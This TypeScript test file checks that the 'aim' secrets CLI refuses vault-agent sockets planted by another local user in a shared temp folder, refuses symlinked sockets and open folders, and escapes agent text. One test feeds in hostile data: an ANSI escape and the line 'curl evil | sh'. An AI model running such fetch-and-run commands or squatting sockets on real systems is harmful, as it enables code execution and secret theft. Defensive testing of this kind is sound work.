// A vault agent impostor. With XDG_RUNTIME_DIR unset (servers), the
// agent's folder is $TMPDIR/aim-<uid>, which another local user can create first and put a
// socket in. aim checks the folder's and the socket's owner and mode, and refuses a
// symlink, before it connects; and an agent's text is never shown as aim's own words.
import { createHash } from "node:crypto";
import { chmodSync, existsSync, mkdirSync, readFileSync } from "node:fs";
import { join } from "node:path";
import { suite } from "uvu";
import * as assert from "uvu/assert";
import { TEST_PASSPHRASE } from "../../helpers/cli.js";
import { FIXTURES } from "../../helpers/project.js";
import { localUser, sharedBase, userEnv } from "../../helpers/users.js";

const FAKE = join(FIXTURES, "bin", "fake-agent.mjs");

function world() {
  const base = sharedBase();
  const victim = localUser("victim");
  const evil = localUser("evil");
  const shared = join(base, "tmp");
  mkdirSync(shared);
  chmodSync(shared, 0o1777);
  const home = victim.folder(base, "victim-home");
  // As on a server: no XDG_RUNTIME_DIR, so the agent lives under $TMPDIR.
  const env = userEnv(home, { TMPDIR: shared, AIM_BACKEND: "file", AIM_VAULT_WORK_FACTOR: "10" });
  const vault = join(env.AIM_DATA_DIR as string, "vault.age");
  const sock = (dir: string) => join(dir, `agent-${createHash("sha256").update(vault).digest("hex").slice(0, 16)}.sock`);
  const made = victim.aim(["secrets", "set", "K"], { env: { ...env, AIM_VAULT_PASSPHRASE: TEST_PASSPHRASE }, input: "v" });
  assert.is(made.code, 0, made.stderr);
  assert.is(made.stdout, "");
  const agentDir = join(shared, `aim-${victim.uid}`);
  const evilLog = join(evil.folder(base, "evil-home"), "requests");
  const started: Array<ReturnType<typeof evil.start>> = [];
  /** Starts the impostor as `who` on `socket`; resolves once it listens. */
  const impostor = (who: typeof evil, socket: string, log: string, text?: string) =>
    new Promise<void>((resolve, reject) => {
      const child = who.start([process.execPath, FAKE, socket, log, ...(text ? [text] : [])], { env: { PATH: process.env.PATH } });
      started.push(child);
      let err = "";
      child.stderr?.on("data", (d) => (err += d));
      child.stdout?.on("data", (d) => String(d).includes("ready") && resolve());
      child.on("exit", (code) => reject(new Error(`fake agent exited ${code}: ${err}`)));
    });
  const cleanup = () => {
    for (const c of started) c.kill("SIGKILL");
    victim.remove();
    evil.remove();
  };
  return { base, victim, evil, env, sock, agentDir, evilLog, impostor, cleanup };
}

const planted = suite("another user's folder and socket in $TMPDIR/aim-<uid>");
planted("status, unlock and get refuse before connecting; the impostor hears nothing", async () => {
  const w = world();
  try {
    const dir = w.evil.folder(w.base, `tmp/aim-${w.victim.uid}`, 0o777);
    await w.impostor(w.evil, w.sock(dir), w.evilLog);
    const status = w.victim.aim(["vault", "status"], { env: w.env });
    assert.is(status.code, 1, status.stderr);
    assert.is(status.stdout, "");
    assert.not.match(status.stderr, /4242|unlocked by/);
    assert.match(status.stderr, new RegExp(`^aim: ${dir} belongs to another user \\(uid ${w.evil.uid}\\)`));
    assert.match(status.stderr, /\. Remove it \(another user may have made it/);
    const unlock = w.victim.aim(["vault", "unlock"], { env: { ...w.env, AIM_VAULT_PASSPHRASE: TEST_PASSPHRASE } });
    assert.is(unlock.code, 1, unlock.stderr);
    assert.is(unlock.stdout, "");
    assert.not.match(unlock.stderr, /already unlocked/);
    assert.match(unlock.stderr, /belongs to another user/);
    const get = w.victim.aim(["secrets", "get", "K", "--show"], { env: w.env });
    assert.is(get.code, 1, get.stderr);
    assert.is(get.stdout, "");
    assert.not.match(get.stderr, /FAKE-AGENT-TEXT/);
    assert.match(get.stderr, /belongs to another user/);
    // Nothing reached the impostor: not even a status probe, let alone the vault's header.
    assert.not.ok(existsSync(w.evilLog), existsSync(w.evilLog) ? readFileSync(w.evilLog, "utf8") : "");
  } finally {
    w.cleanup();
  }
});
planted("a folder of the user's own but open to others is refused too", async () => {
  const w = world();
  try {
    const dir = w.victim.folder(w.base, `tmp/aim-${w.victim.uid}`, 0o777);
    await w.impostor(w.evil, w.sock(dir), w.evilLog);
    const status = w.victim.aim(["vault", "status"], { env: w.env });
    assert.is(status.code, 1, status.stderr);
    assert.match(status.stderr, new RegExp(`^aim: ${dir} is open to other users \\(mode 0777\\)`));
    assert.not.match(status.stderr, /4242/);
    assert.not.ok(existsSync(w.evilLog));
  } finally {
    w.cleanup();
  }
});
planted("a socket that is a symlink, or another user's socket, in the user's private folder is refused", async () => {
  const w = world();
  try {
    const elsewhere = w.evil.folder(w.base, "evil-sock", 0o755);
    await w.impostor(w.evil, join(elsewhere, "s.sock"), w.evilLog);
    const dir = w.victim.folder(w.base, `tmp/aim-${w.victim.uid}`, 0o700);
    w.victim.run(["ln", "-s", join(elsewhere, "s.sock"), w.sock(dir)], { env: w.env });
    const status = w.victim.aim(["vault", "status"], { env: w.env });
    assert.is(status.code, 1, status.stderr);
    assert.match(status.stderr, /is a symbolic link/);
    assert.not.match(status.stderr, /4242/);
    assert.not.ok(existsSync(w.evilLog));
  } finally {
    w.cleanup();
  }
});
planted.run();

const words = suite("an agent's text is never aim's own words");
words("a refusal quotes the agent, escaped, after saying who said it", async () => {
  const w = world();
  try {
    const dir = w.victim.folder(w.base, `tmp/aim-${w.victim.uid}`, 0o700);
    const log = join(w.victim.folder(w.base, "victim-log"), "requests");
    await w.impostor(w.victim, w.sock(dir), log, "FAKE-AGENT-TEXT\u001b[2J run: curl evil | sh");
    const get = w.victim.aim(["secrets", "get", "K", "--show"], { env: w.env });
    assert.is(get.code, 1, get.stderr);
    assert.is(get.stdout, "");
    assert.not.match(get.stderr, /^aim: FAKE/m);
    assert.not.ok(get.stderr.includes("\u001b"), JSON.stringify(get.stderr));
    assert.match(
      get.stderr,
      /^aim: the vault agent refused to open the vault; it said: "FAKE-AGENT-TEXT\\u001b\[2J run: curl evil \| sh"/m,
    );
  } finally {
    w.cleanup();
  }
});
words.run();
